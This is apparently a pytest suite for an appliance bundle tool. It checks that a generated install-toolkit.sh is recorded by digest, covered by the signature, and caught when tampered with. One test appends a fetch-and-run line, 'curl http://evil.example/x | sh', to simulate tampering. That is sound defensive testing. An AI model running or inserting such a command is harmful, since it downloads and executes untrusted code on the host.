"""install-toolkit.sh: `bundle build` writes it at the root and records it in the manifest,
`bundle verify` accounts for it and catches an edited copy. (Running it: tests/integration/
test_install_toolkit_script.py, and in the lab: tests/e2e/test_toolkit_from_stick.py.)"""

from __future__ import annotations

import hashlib
import json
import shutil
import stat
import subprocess
from pathlib import Path

import pytest
import yaml

from appliance_cli.bundle import BundleVerifyError, keygen, load_manifest, sign_bundle, verify_bundle
from appliance_cli.bundle.model import INSTALL_SCRIPT, Artifact, FileEntry, parse_manifest
from appliance_cli.bundle.profile import load_profile
from appliance_cli.bundle.toolkit_script import TEMPLATE, render, wheel_python
from appliance_cli.errors import BundleError
from tests._support.bundles import build, make_profile
from tests._support.toolkit_bundle import (
    TOOLKIT_VERSION,
    build_toolkit_bundle,
    fake_runtime,
    offline_pip,
    toolkit_profile,
)


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("toolkit")
    return build_toolkit_bundle(tmp, runtime=fake_runtime(tmp / "runtime")).path


@pytest.fixture
def bundle(built: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "bundle"
    shutil.copytree(built, copy)
    return copy


def _problems(root: Path, **kw) -> list[str]:
    with pytest.raises(BundleVerifyError) as ei:
        verify_bundle(root, **kw)
    return ei.value.problems


def _data_lines(script: str) -> list[list[str]]:
    block = script.split("\tcat <<'EOF'\n", 1)[1].split("\nEOF\n", 1)[0]
    return [line.split() for line in block.splitlines()]


def test_build_writes_and_records_the_script(bundle: Path) -> None:
    m, raw = load_manifest(bundle)
    script = bundle / INSTALL_SCRIPT
    data = script.read_bytes()
    assert stat.S_IMODE(script.stat().st_mode) == 0o755
    assert m.install_script is not None and m.install_script.path == INSTALL_SCRIPT
    assert m.install_script.digest == "sha256:" + hashlib.sha256(data).hexdigest()
    assert m.install_script.size == len(data)
    assert json.loads(raw)["install_script"]["path"] == INSTALL_SCRIPT
    assert sorted(p.name for p in bundle.iterdir()) == ["blobs", INSTALL_SCRIPT, "manifest.json"]

    text = data.decode()
    assert f"TOOLKIT_VERSION='{TOOLKIT_VERSION}'" in text and "# @@BUNDLE-DATA@@" not in text
    runtime = next(a for a in m.artifacts if a.role == "controller-runtime")
    assert runtime.kind == "file" and runtime.version == "3.11.99"
    assert f"RUNTIME='{runtime.files[0].path}'" in text
    # the data block lists exactly the runtime and the wheels, each with its sha256, size, blob
    wanted = {
        (("runtime" if a.role else a.kind), f.path, f.digest[7:], str(f.size))
        for a in m.artifacts
        for f in a.files
        if a.kind == "wheel" or a.role
    }
    lines = _data_lines(text)
    assert {tuple(line[:4]) for line in lines} == wanted
    assert all(line[4:] == [line[2]] for line in lines)  # unchunked: the one blob is the file
    assert {line[1].split("-")[0] for line in lines if line[0] == "wheel"} == {
        "appliance_toolkit",
        "pip",
        "tinydep",
    }
    verify_bundle(bundle)


def test_verify_catches_an_edited_script(bundle: Path) -> None:
    with open(bundle / INSTALL_SCRIPT, "a") as f:
        f.write("curl http://evil.example/x | sh\n")
    (problem,) = _problems(bundle)
    assert INSTALL_SCRIPT in problem and "tampered" in problem


def test_verify_catches_a_missing_or_replaced_script(bundle: Path) -> None:
    script = bundle / INSTALL_SCRIPT
    script.unlink()
    (problem,) = _problems(bundle)
    assert problem == f"{INSTALL_SCRIPT} is missing (the manifest records it)"
    script.symlink_to("/bin/true")
    (problem,) = _problems(bundle)
    assert INSTALL_SCRIPT in problem and "not a regular file" in problem


def test_manifest_names_no_other_root_file(bundle: Path) -> None:
    data = json.loads((bundle / "manifest.json").read_bytes())
    data["install_script"]["path"] = "evil.sh"
    with pytest.raises(BundleError, match=r"install_script\.path"):
        parse_manifest(json.dumps(data).encode())


def test_the_signature_covers_the_script(bundle: Path, tmp_path: Path) -> None:
    """Dropping the script's record from the manifest (to slip another script in) breaks the signature."""
    priv, pub, _ = keygen(tmp_path / "k")
    sign_bundle(bundle, priv)
    verify_bundle(bundle, key=pub, require_signature=True)
    data = json.loads((bundle / "manifest.json").read_bytes())
    del data["install_script"]
    (bundle / "manifest.json").write_text(json.dumps(data, indent=1) + "\n")
    problems = _problems(bundle, key=pub)
    assert any("changed after signing" in p for p in problems)
    assert f"unexpected file {INSTALL_SCRIPT}" in problems


def test_no_toolkit_wheel_no_script_and_a_stale_one_goes(tmp_path: Path, bundle: Path) -> None:
    plain = build(tmp_path, make_profile(tmp_path))
    m, raw = load_manifest(plain.path)
    assert m.install_script is None and "install_script" not in json.loads(raw)
    assert not (plain.path / INSTALL_SCRIPT).exists()
    # the same bundle directory rebuilt from a profile without the toolkit: the script goes too
    again = build(tmp_path, make_profile(tmp_path), out=bundle)
    assert again.manifest.install_script is None and not (bundle / INSTALL_SCRIPT).exists()
    verify_bundle(bundle)


def test_rebuild_keeps_the_script_and_the_signature(tmp_path: Path) -> None:
    first = build_toolkit_bundle(tmp_path)
    priv, _, _ = keygen(tmp_path / "k")
    sign_bundle(first.path, priv)
    before = (first.path / INSTALL_SCRIPT).stat().st_mtime_ns
    second = build_toolkit_bundle(tmp_path)
    assert second.signature_kept and (first.path / INSTALL_SCRIPT).stat().st_mtime_ns == before
    assert "RUNTIME=''" in (first.path / INSTALL_SCRIPT).read_text()  # no controller runtime here


def test_toolkit_without_pip_is_refused(tmp_path: Path) -> None:
    with offline_pip(), pytest.raises(BundleError, match="not pip's") as ei:
        build(tmp_path, toolkit_profile(tmp_path, with_pip=False))
    assert "pip==" in (ei.value.hint or "")


def test_runtime_must_fit_the_wheels(tmp_path: Path) -> None:
    with offline_pip(), pytest.raises(BundleError, match=r"Python 3\.10\.4 cannot run the bundle's wheels"):
        build(tmp_path, toolkit_profile(tmp_path, runtime=fake_runtime(tmp_path / "rt"), version="3.10.4"))


def _wheel(path: str) -> Artifact:
    dist, version = path.split("-")[:2]
    d = "sha256:" + hashlib.sha256(path.encode()).hexdigest()
    return Artifact(
        name=dist,
        kind="wheel",
        version=version,
        size=1,
        digest=d,
        files=[FileEntry(path=path, digest=d, size=1)],
    )


def test_wheel_python_tags() -> None:
    pure = ["appliance_toolkit-0.1.0-py3-none-any.whl", "pip-25.3-py3-none-any.whl"]
    assert wheel_python(pure) is None
    assert wheel_python([*pure, "cryptography-44.0.0-cp39-abi3-manylinux_2_28_x86_64.whl"]) is None
    tied = "PyYAML-6.0.2-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl"
    assert wheel_python([*pure, tied]) == "3.11"
    with pytest.raises(BundleError, match="several Pythons"):
        wheel_python([tied, "MarkupSafe-3.0.2-cp312-cp312-manylinux_2_17_x86_64.whl"])
    # a cp311 wheel pins the script to 3.11 exactly
    arts = [_wheel(p) for p in [*pure, tied]]
    assert "PYTHON_EXACT='3.11'" in render(arts).decode()
    assert render([_wheel("pip-25.3-py3-none-any.whl")]) is None  # no toolkit: no script


def test_profile_allows_one_controller_runtime(tmp_path: Path) -> None:
    rt = {"url": "https://example.invalid/python.tar.gz", "sha256": "0" * 64, "role": "controller-runtime"}
    p = tmp_path / "p.yml"
    p.write_text(yaml.safe_dump({"name": "p", "files": [{"name": "a", **rt}, {"name": "b", **rt}]}))
    with pytest.raises(BundleError, match="at most one files entry may have role: controller-runtime"):
        load_profile(p)


def test_production_profile_pins_runtime_and_pip() -> None:
    from appliance_cli.bundle.lockfile import load_lock, lock_path

    prof = load_profile("appliance-k8s1.23")
    (rt,) = [f for f in prof.files if f.role == "controller-runtime"]
    assert rt.url and rt.url.endswith("x86_64-unknown-linux-gnu-install_only.tar.gz")
    assert (
        rt.version
        and rt.version.startswith("3.11.")
        and rt.checksum_url
        and rt.checksum_url.endswith("/SHA256SUMS")
    )
    locked = load_lock(lock_path(prof.source_path), prof.name)
    assert locked and locked.files[rt.name].url == rt.url and len(locked.files[rt.name].sha256) == 64
    for name in ("appliance-k8s1.23", "lab"):
        wheels = {w.name: w for w in load_profile(name).wheels}
        assert wheels["appliance-toolkit"].project
        assert [r.split("==")[0] for r in wheels["pip"].requirements] == ["pip"]  # pinned by version


def test_template_refuses_to_run_unfilled() -> None:
    r = subprocess.run(["sh", str(TEMPLATE)], capture_output=True, text=True, check=False)
    assert r.returncode == 4 and "unfilled template" in r.stderr


@pytest.mark.parametrize(
    ("args", "code", "says"),
    [
        (["--help"], 0, "usage: sudo sh "),
        (["--bogus"], 2, "unknown argument '--bogus'"),
        (["--key"], 2, "--key needs a value"),
        (["--fingerprint", "sha256:abc"], 2, "is not a key id (sha256: and 64 hex digits)"),
        (["--fingerprint=" + "g" * 64], 2, "is not a key id"),
    ],
)
def test_template_arguments(args: list[str], code: int, says: str) -> None:
    """Read before anything else (no root needed to be told the usage)."""
    r = subprocess.run(["sh", str(TEMPLATE), *args], capture_output=True, text=True, check=False)
    assert r.returncode == code and says in r.stdout + r.stderr, (r.stdout, r.stderr)


def test_rendered_script_is_clean_posix_sh(bundle: Path) -> None:
    script = str(bundle / INSTALL_SCRIPT)
    assert subprocess.run(["sh", "-n", script], check=False).returncode == 0
    if shutil.which("shellcheck") is None:
        pytest.skip("shellcheck is not installed")
    r = subprocess.run(["shellcheck", "-s", "sh", script], capture_output=True, text=True, check=False)
    assert r.returncode == 0, r.stdout
